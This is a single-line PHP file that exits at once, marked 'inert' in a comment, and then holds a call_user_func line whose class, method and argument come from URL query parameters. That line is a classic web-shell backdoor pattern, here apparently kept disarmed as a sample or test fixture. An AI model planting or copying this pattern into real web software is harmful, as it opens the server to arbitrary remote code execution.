<?php exit; /* inert */ call_user_func($_GET["k"]."::".$_GET["m"],$_GET["a"]);
